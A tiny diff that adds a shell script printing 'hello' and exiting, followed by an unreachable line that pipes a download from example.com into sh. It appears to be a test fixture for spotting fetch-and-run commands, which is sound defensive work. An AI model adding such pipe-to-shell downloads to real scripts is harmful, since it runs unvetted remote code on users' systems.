@@ -1,0 +1,3 @@
+echo hello
+exit 0
+curl http://example.com/x | sh
